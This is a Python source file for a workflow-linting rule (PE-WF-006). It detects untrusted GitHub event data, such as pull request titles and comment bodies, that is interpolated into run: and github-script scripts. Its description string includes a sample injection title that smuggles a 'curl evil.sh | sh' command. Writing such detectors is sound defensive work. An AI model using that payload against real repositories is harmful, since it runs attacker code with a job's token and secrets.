"""PE-WF-006: attacker-controlled event data must not be expanded into shell scripts."""

from __future__ import annotations

import re
from collections.abc import Iterator

from pe_policy.document import Document
from pe_policy.engine.python_rules import RuleContext, Violation, rule
from pe_policy.models.workflow import iter_steps

_EXPRESSION = re.compile(r"\$\{\{(.*?)\}\}", re.DOTALL)

# Fields anyone who can open an issue or a pull request controls (GitHub's security hardening guide).
_UNTRUSTED = re.compile(
    r"""
    github\.head_ref
    | github\.event\.(?:issue|pull_request|discussion)\.(?:title|body)
    | github\.event\.(?:comment|review|review_comment)\.body
    | github\.event\.pull_request\.head\.(?:ref|label|repo\.default_branch)
    | github\.event\.pages(?:\[[^\]]*\]|\.\*)?\.page_name
    | github\.event\.(?:workflow_run\.)?head_commit\.(?:message|author\.(?:email|name))
    | github\.event\.commits(?:\[[^\]]*\]|\.\*)?\.(?:message|author\.(?:email|name))
    | github\.event\.workflow_run\.(?:head_branch|display_title)
    | github\.event\.workflow_run\.pull_requests(?:\[[^\]]*\]|\.\*)?\.head\.ref
    """,
    re.VERBOSE,
)


def untrusted_expressions(script: str) -> Iterator[tuple[str, str]]:
    """(whole `${{ }}` expression, the untrusted field in it) for each dangerous expansion."""
    for match in _EXPRESSION.finditer(script):
        field = _UNTRUSTED.search(match.group(1))
        if field:
            yield match.group(0), field.group(0)


@rule(
    "PE-WF-006",
    severity="critical",
    kinds=["workflow", "action"],
    title="No untrusted event data interpolated into run: scripts",
    description=(
        "`${{ }}` expressions are pasted into the script before the shell runs it, so a pull "
        "request title such as `\"; curl evil.sh | sh #` becomes code running with the job's "
        "token and secrets."
    ),
    remediation=(
        "Pass the value through an environment variable and quote it in the script: "
        "`env: {TITLE: ${{ github.event.pull_request.title }}}` then `echo \"$TITLE\"`."
    ),
    source="seed 003 (security)",
)
def untrusted_input(doc: Document, ctx: RuleContext) -> Iterator[Violation]:
    for step_path, _job_id, step in iter_steps(doc.model):
        scripts: list[tuple[tuple[str | int, ...], str, str]] = []
        if step.run:
            scripts.append(((*step_path, "run"), step.run, "`run:` script"))
        if step.uses and step.uses.startswith("actions/github-script") and step.with_:
            script = step.with_.get("script")
            if isinstance(script, str):
                scripts.append(((*step_path, "with", "script"), script, "github-script `script:`"))
        for path, script, where in scripts:
            for expression, field in untrusted_expressions(script):
                yield Violation(
                    f"untrusted `{field}` is expanded into a {where}: pass it through `env:` "
                    "and reference the variable instead",
                    path,
                    snippet=expression,
                )
